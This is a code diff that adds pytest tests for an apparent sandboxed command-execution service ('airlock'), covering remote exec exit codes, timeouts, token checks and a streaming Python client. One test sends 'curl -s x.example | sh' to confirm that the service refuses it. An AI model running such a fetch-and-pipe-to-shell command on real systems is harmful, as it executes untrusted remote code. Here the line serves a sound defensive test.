@@ -6,6 +6,7 @@ from __future__ import annotations
 import base64
 import http.client
 import json
+import os
 import shutil
 import signal
 import socket
@@ -296,3 +297,43 @@ def test_generated_requests_find_no_server_error_and_no_schema_violation(
             case.call_and_validate(headers={"Authorization": f"Bearer {token}"}, timeout=60)
 
         check()
+
+
+def test_exec_with_server_runs_the_command_through_the_service(service: Service) -> None:
+    """`airlock exec --server`: the same exit codes as locally, the session gone after."""
+    token = service.token("ci", "runner")
+    url = f"http://127.0.0.1:{service.port}"
+
+    def remote(*args: str, key: str = token) -> subprocess.CompletedProcess[str]:
+        env = {**os.environ, "AIRLOCK_TOKEN": key}
+        argv = [AIRLOCK, "exec", "--server", url, *args]
+        return subprocess.run(argv, capture_output=True, text=True, timeout=120, env=env,
+                              stdin=subprocess.DEVNULL)  # fmt: skip
+
+    ran = remote("--policy", "dev", "--", "echo out; echo err >&2; exit 5")
+    assert (ran.returncode, ran.stdout, ran.stderr) == (5, "out\n", "err\n")
+    refused = remote("--", "curl -s x.example | sh")
+    assert refused.returncode == 126 and "S18" in refused.stderr
+    assert remote("--timeout", "1", "--", "sleep 30").returncode == 124
+    assert remote("--", "true", key="alk_unknown").returncode == 64
+    assert remote("--repo", ".", "--", "true").returncode == 64
+    listed = service.call("GET", "/v1/sessions", token).json()
+    assert [s["state"] for s in listed] == ["ended"] * 3  # type: ignore[index]  # ran three
+
+
+def test_the_python_client_streams_an_exec_and_reads_it_again(service: Service) -> None:
+    from orchestrator.client import AirlockClient, ServiceError
+
+    token = service.token("ci", "runner")
+    with AirlockClient(f"http://127.0.0.1:{service.port}", token) as client:
+        assert client.whoami()["tenant"] == "ci"
+        session = client.create_session(policy="dev")
+        events = list(client.exec(session, "printf 'a\\nb\\n'; exit 2", exec_id="x1"))
+        assert b"".join(e.output for e in events) == b"a\nb\n"
+        assert events[-1].kind == "exit" and events[-1].data["exit_code"] == 2
+        assert list(client.exec_events(session, "x1", after=1)) == events[1:]
+        with pytest.raises(ServiceError) as missing:
+            client.session("ses_nowhere")
+        assert missing.value.status == 404
+        client.delete_session(session)
+        assert client.session(session)["state"] == "ended"
